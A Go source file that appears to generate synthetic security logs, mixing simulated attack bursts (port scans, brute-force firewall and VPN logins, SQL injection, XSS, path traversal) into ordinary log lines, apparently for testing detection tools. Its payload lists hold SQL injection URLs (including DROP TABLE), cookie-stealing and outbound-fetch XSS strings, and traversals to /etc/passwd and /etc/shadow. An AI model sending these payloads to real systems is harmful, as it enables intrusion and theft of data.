package loadgen

// attack is a kind of burst from one address.
type attack struct {
	name        string
	least, most uint32 // lines of one burst
	line        func(g *Generator, s *scene, dst []byte) []byte
}

// scene plays one attack after the other, with quiet in between. Its lines come among ordinary ones.
type scene struct {
	kinds  []attack
	now    *attack
	quiet  int // lines to pass before the next attack begins
	length int // lines of the attack that goes on
	made   int // of them already made
	from   ip
	to     ip
	host   string
	user   []byte
}

// intensity is the share of lines, in percent, that belong to an attack while it goes on.
const intensity = 30

func (s *scene) init(g *Generator, kinds []attack) {
	s.kinds = kinds
	s.quiet = int(g.rnd.between(10, 40))
}

// next makes a line of the attack that goes on, if this line is to be one.
func (s *scene) next(g *Generator, dst []byte) ([]byte, bool) {
	if g.opt.Attacks == 0 {
		return dst, false
	}
	if s.quiet > 0 {
		s.quiet--
		return dst, false
	}
	if s.now == nil {
		s.begin(g)
	}
	if !g.rnd.percent(intensity) {
		return dst, false
	}
	g.line.Attack, g.attacker = s.now.name, s.from
	dst = s.now.line(g, s, dst)
	if s.made++; s.made == s.length {
		// The quiet that makes attacks the share of all lines that was asked for.
		s.quiet = int(float64(s.length) * (1/g.opt.Attacks - 100.0/intensity))
		s.now = nil
	}
	return dst, true
}

func (s *scene) begin(g *Generator) {
	s.now = &s.kinds[g.rnd.below(uint32(len(s.kinds)))]
	s.length, s.made = int(g.rnd.between(s.now.least, s.now.most)), 0
	s.from, s.to = g.outside(), g.server()
	s.host = pick(&g.rnd, firewalls[:])
	s.user = g.admin(s.user[:0])
	if g.rnd.bits(1) == 0 {
		s.user = g.person(s.user[:0])
	}
}

// last says that the line under construction ends the attack.
func (s *scene) last() bool {
	return s.made == s.length-1
}

var networkAttacks = [...]attack{
	{"port scan", 40, 120, portScan},
	{"firewall login", 25, 80, firewallLogin},
	{"vpn login", 25, 80, guessVPN},
}

// portScan tries one port after the other on one machine; the firewall notices after a while.
func portScan(g *Generator, s *scene, dst []byte) []byte {
	port := service{port: uint32(20 + 7*s.made), protocol: "TCP"}
	if s.made%32 == 31 || s.last() {
		scan := networkAttack{"Port Scan", port, "检测到端口扫描", 3}
		return g.detected(dst, s.host, s.from, s.to, scan, uint32(s.made))
	}
	return g.denied(dst, s.host, s.from, s.to, port)
}

// firewallLogin guesses the password of an administrator and gets in with the last line.
func firewallLogin(g *Generator, s *scene, dst []byte) []byte {
	return g.adminLogin(dst, s.host, s.from, !s.last(), s.user)
}

// guessVPN guesses the password of one VPN account and gets in with the last line.
func guessVPN(g *Generator, s *scene, dst []byte) []byte {
	return g.vpnLogin(dst, s.from, !s.last(), s.user)
}

var requestAttacks = [...]attack{
	{"sql injection", 30, 90, func(g *Generator, s *scene, dst []byte) []byte {
		return g.request(dst, s, &injection, injections[:])
	}},
	{"cross-site scripting", 20, 60, func(g *Generator, s *scene, dst []byte) []byte {
		return g.request(dst, s, &scripting, scripts[:])
	}},
	{"path traversal", 20, 60, func(g *Generator, s *scene, dst []byte) []byte {
		return g.request(dst, s, &traversal, traversals[:])
	}},
}

var (
	injection = requestAttack{
		signature{23456, "SQL注入攻击尝试", 80, "TCP", 2},
		violation{"Attack signature detected,Illegal meta character in value", "SQL-Injection", "200002147,200002476", "SQL-INJ expressions (Parameter),SQL-INJ UNION SELECT (Parameter)", "Critical", 5},
	}
	scripting = requestAttack{
		signature{23471, "跨站脚本(XSS)攻击; <script>标签", 80, "TCP", 2},
		violation{"Attack signature detected,Illegal meta character in value", "Cross Site Scripting (XSS)", "200000098,200001475", "XSS script tag (Parameter),XSS script tag end (Parameter)", "Critical", 5},
	}
	traversal = requestAttack{
		signature{23502, "Path traversal: ../../etc/passwd", 80, "TCP", 3},
		violation{"Attack signature detected,Illegal URL", "Path Traversal", "200007000,200010468", "Directory Traversal attempt ../ (Parameter),/etc/passwd access (Parameter)", "Critical", 4},
	}

	injections = [...]string{
		"/product/list?id=1%27%20OR%20%271%27=%271", "/product/list?id=1%20UNION%20SELECT%20NULL,version()--",
		"/search?q=%27;%20DROP%20TABLE%20accounts;--", "/api/v1/notices?id=1%20AND%20SLEEP(5)",
		"/branch/query?city=%27%20UNION%20SELECT%20table_name%20FROM%20information_schema.tables--",
	}
	scripts = [...]string{
		"/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(document.cookie)%3E",
		"/help/faq.html?lang=javascript:alert(1)", "/branch/query?city=%3Csvg/onload=fetch(%27//203.0.113.66/c%27)%3E",
	}
	traversals = [...]string{
		"/download?file=../../../../etc/passwd", "/static/..%2f..%2f..%2fetc/shadow",
		"/download?file=..%5c..%5cwindows%5cwin.ini", "/static/%2e%2e/%2e%2e/WEB-INF/web.xml",
	}
)

// requestAttack is a kind of malicious request, as the intrusion prevention system and the WAF name it.
type requestAttack struct {
	seen signature
	by   violation
}

const attackTool = "sqlmap/1.9.4#stable (https://sqlmap.org)"

// request is one malicious request as the device of the line's format sees it. Behind a WAF a web server does not see what
// was stopped.
func (g *Generator) request(dst []byte, s *scene, kind *requestAttack, paths []string) []byte {
	blocked := g.rnd.percent(60)
	if g.line.Format == IPS {
		g.line.Host = ipsHosts[0]
		return g.intrusion(dst, &kind.seen, s.from, s.to, blocked)
	}
	if g.opt.Mix.WAF > 0 && (blocked || g.line.Format == WAF) {
		g.line.Format = WAF
		action := "blocked"
		if !blocked && g.rnd.percent(20) {
			action = "alerted"
		}
		return g.decision(dst, &kind.by, s.from, s.to, "GET", pick(&g.rnd, paths), attackTool, action)
	}
	dst = g.webHead(dst, s.from, "GET")
	dst = append(dst, pick(&g.rnd, paths)...)
	dst = append(dst, ` HTTP/1.1" `...)
	status := uint32(200)
	if blocked {
		status = 403
	}
	return g.webTail(dst, status, g.rnd.magnitude(8, 14), attackTool)
}
